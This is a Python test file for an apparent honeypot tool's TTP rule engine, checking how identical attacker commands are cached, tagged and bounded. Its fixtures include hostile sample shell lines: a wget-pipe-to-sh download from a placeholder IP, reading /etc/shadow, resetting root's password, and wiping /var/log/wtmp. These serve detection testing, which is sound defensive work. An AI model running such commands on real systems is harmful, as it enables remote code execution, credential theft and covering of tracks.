"""Events that are alike are judged once, and as if each had been judged by itself."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import asdict
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.bounds import BITES
from decnet.shell.told import Facts
from decnet.ttp import remembered
from decnet.ttp.base import TaggerEvent
from decnet.ttp.evidence import EVIDENCE_CUT
from decnet.ttp.kinds import CONTEXT, LOGIN, LOGIN_REASONS
from decnet.ttp.matcher import Failures, RuleIndex
from decnet.ttp.remembered import KEPT, MAX_KEY_BYTES, Remembered
from decnet.ttp.rule_engine import Collected, RuleEngine, Snapshot
from decnet.ttp.rules import CompiledRule
from tests.packkit import index
from tests.unit.test_rule_matching_guards import PADDED, made

LINES = (
    "uname -a", "wget http://203.0.113.7/a.sh -O- | sh", "cat /etc/shadow", "chpasswd <<< root:hunter22", "ls", "./a.sh",
    "curl -s -u bob:hunter22 http://198.51.100.7/x", "crontab -l; rm -rf /var/log/wtmp", "echo ''", "\ud800 \0 x",
)  # fmt: skip


def facts(line: str, **values: Any) -> dict[str, Facts]:
    return {line: Facts(values, {name: f"line {value}" for name, value in values.items()})}


def told(engine: RuleEngine, events: Sequence[TaggerEvent]) -> list[Any]:
    collected = Collected()
    tags = [
        {name: value for name, value in asdict(tag).items() if name not in ("created_at", "seen_at")}
        for event in events
        for tag in engine.evaluate(event, collected=collected)
    ]
    return [tags, collected.hits, collected.better, engine.suppressed, engine.replaced]


def engine_of(rules: Sequence[CompiledRule], **more: Any) -> RuleEngine:
    engine = RuleEngine(**more)
    engine.replace(rules, {})
    return engine


def command(line: str, source: str = "c", **more: Any) -> TaggerEvent:
    return TaggerEvent(
        "command", source, f"a-{source}", None, f"s-{source}", None, {"command_text": line, **more}
    )


@st.composite
def _commands(draw: st.DrawFn) -> TaggerEvent:
    line = draw(st.sampled_from(LINES))
    payload: dict[str, Any] = {"ts": draw(st.floats(0, 1e9)), "id": draw(st.text(max_size=3))}
    if draw(st.booleans()):
        value = draw(st.sampled_from(["fetched", "uploaded", 1, True, 2]))
        name = draw(st.sampled_from(["exec.origin", "session.recon", "fetch.source"]))
        payload[CONTEXT] = facts(line, **{name: value})
    if draw(st.booleans()):
        payload |= {LOGIN: ["new_user"], LOGIN_REASONS: {"new_user": draw(st.sampled_from(["x", "y"]))}}
    payload |= {name: draw(st.sampled_from(["root", "bob", None])) for name in ("user", "src")}
    return command(line, draw(st.sampled_from("abcdef")), **payload)


@settings(max_examples=40)
@given(st.lists(_commands(), min_size=1, max_size=25))
def test_whatever_came_before_an_event_is_judged_as_by_itself(events: list[TaggerEvent]) -> None:
    engine, alone = RuleEngine(), RuleEngine()
    engine._snapshot = Snapshot(index(), {}, Remembered(index()))
    found = told(engine, events)
    singles = []
    for event in events:
        alone._snapshot = Snapshot(index(), {}, Remembered(index()))
        singles.append(told(alone, [event])[:3])
    assert found[:3] == [[one for single in singles for one in single[i]] for i in range(3)]
    assert found[3:] == [alone.suppressed, alone.replaced]


def looks(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The lines that an index is really asked for; with ``!`` by rules that read what the session tells."""
    asked: list[str] = []
    true = RuleIndex.hits

    def hits(self: RuleIndex, kind: str, payload: Any, failures: Failures, told: bool | None) -> Any:
        asked.append(payload.get("command_text", kind) + ("!" if told else ""))
        return true(self, kind, payload, failures, told)

    monkeypatch.setattr(RuleIndex, "hits", hits)
    return asked


def test_a_line_is_looked_at_once_whoever_types_it_and_when(monkeypatch: pytest.MonkeyPatch) -> None:
    asked = looks(monkeypatch)
    engine = engine_of([made("{pattern: wget}")])
    first, second = (engine.evaluate(command("wget x", who, ts=ts)) for who, ts in (("a", 1.0), ("b", 2.0)))
    assert asked == ["wget x"]
    assert [tag.source_id for tag in (*first, *second)] == ["a", "b"]
    assert first[0].evidence is second[0].evidence
    engine.evaluate(command("ls"))
    assert asked == ["wget x", "ls"]


def test_what_a_rule_reads_tells_lines_apart(monkeypatch: pytest.MonkeyPatch) -> None:
    asked = looks(monkeypatch)
    rules = [
        made("{all: [{pattern: wget}, {field: user, op: equals, value: root}]}", "R1"),
        made("{all: [{pattern: wget}, {field: deep.er, op: equals, value: 1}]}", "R2"),
        made("{pattern: wget}", "R3", more="evidence_fields: [src]\n"),
        made("{all: [{pattern: wget}, {not: {field: exec.origin, op: exists}}]}", "R4"),
    ]
    engine = engine_of(rules)

    def fired(**more: Any) -> set[str]:
        return {tag.rule_id for tag in engine.evaluate(command("wget x", **more))}

    assert fired() == {"R3", "R4"}
    assert sorted(asked) == ["wget x", "wget x!"]
    assert fired(user="root") == {"R1", "R3", "R4"}
    assert asked[2:] == ["wget x"], "who typed it is nothing to the rule that reads the session"
    assert fired(deep={"er": 1}) == {"R2", "R3", "R4"}
    assert fired(**{"deep.er": 1}) == {"R2", "R3", "R4"}
    assert fired(deep={"er": True}) == {"R3", "R4"}, "True is not 1"
    assert asked[3:] == ["wget x"] * 3
    assert fired(**{CONTEXT: facts("wget x", **{"exec.origin": ["fetched"]})}) == {"R3"}
    assert asked[6:] == ["wget x!"], "and what the session tells is nothing to the others"
    (shown,) = (t for t in engine.evaluate(command("wget x", src="192.0.2.1")) if t.rule_id == "R3")
    assert (shown.evidence or {})["src"] == "192.0.2.1"
    assert asked[7:] == ["wget x"]
    assert fired(answer_time=5) == {"R3", "R4"}
    assert len(asked) == 8, "what no rule reads tells nothing apart"


def test_what_a_rule_of_the_session_knows_better_falls_away_on_its_command_only() -> None:
    better = made(
        "{all: [{field: argv0, op: equals, value: rm}, {field: exec.origin, op: exists}]}",
        "R1", emits="[{tactic: TA0005, technique_id: T1070, confidence: 0.8}]", more="replaces: [T1105]\n",
    )  # fmt: skip
    engine = engine_of([better, made("{field: argv0, op: equals, value: rm}", "R2")])

    def fired(line: str) -> set[str]:
        told = facts("rm a", **{"exec.origin": ["fetched"]})
        return {tag.rule_id for tag in engine.evaluate(command(line, **{CONTEXT: told}))}

    assert fired("rm a") == {"R1"}
    assert fired("rm a; rm b") == {"R1", "R2"}, "of the second command nothing better is known"


def test_another_set_of_rules_has_another_memory() -> None:
    engine = engine_of([made("{pattern: wget}")])
    assert engine.evaluate(command("wget x"))
    engine.replace([made("{pattern: curl}")], {})
    assert not engine.evaluate(command("wget x"))


def test_while_a_rule_fails_nothing_is_remembered_and_it_is_tripped_all_the_same(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    rule = made("{pattern: wget}")
    engine = engine_of([rule], max_failures=3)
    monkeypatch.setattr(
        type(rule.condition), "find", lambda *_: (_ for _ in ()).throw(RuntimeError("broken"))
    )
    for failures in (1, 2, 3):
        assert engine.evaluate(command("wget x")) == []
        assert engine.failures.total == failures
    assert engine.failures.tripped(rule)
    assert len(engine.snapshot().remembered) == 0
    monkeypatch.undo()
    assert engine.evaluate(command("wget x")) == []


def test_a_bound_that_bites_is_counted_each_time() -> None:
    engine = engine_of([made("{pattern: wget}", more="evidence_fields: [user]\n")])
    before = BITES[EVIDENCE_CUT]
    for times in (1, 2, 3):
        engine.evaluate(command("wget x", user="u" * 2001))
        assert BITES[EVIDENCE_CUT] == before + times
    engine = engine_of([made("{pattern: wget}")])
    for times in (1, 2):
        engine.evaluate(command(f"wget;{PADDED}"))
        assert engine.views_capped == times


def test_memory_is_bounded_and_so_is_what_is_remembered(monkeypatch: pytest.MonkeyPatch) -> None:
    assert (KEPT, MAX_KEY_BYTES) == (4096, 4096)
    monkeypatch.setattr(remembered, "KEPT", 3)
    memory = Remembered(RuleIndex([made("{pattern: wget}")]))
    sizes = []
    for number in range(5):
        memory.of("command", {"command_text": f"wget {number}"}, Failures())
        sizes.append(len(memory))
    assert sizes == [1, 2, 3, 1, 2]
    memory.of("command", {"command_text": "wget 4"}, Failures())
    assert len(memory) == 2
    frame = len(memory._alone.key({"command_text": ""}) or b"")
    for chars, sizes_then in ((MAX_KEY_BYTES - frame, 3), (MAX_KEY_BYTES - frame + 1, 3)):
        memory.of("command", {"command_text": "w" * chars}, Failures())
        assert len(memory) == sizes_then
    memory.of("session", {"session_id": "s"}, Failures())
    assert len(memory) == 3
    memory = Remembered(RuleIndex([made("{field: exec.origin, op: equals, value: fetched}")]))
    for known, value in ((1, object()), (2, "fetched")):
        told = {"command_text": "x", CONTEXT: facts("x", **{"exec.origin": value})}
        assert len(memory.of("command", told, Failures()).hits) == known - 1
        assert len(memory) == known, "the line by itself is remembered, what cannot be written down is not"
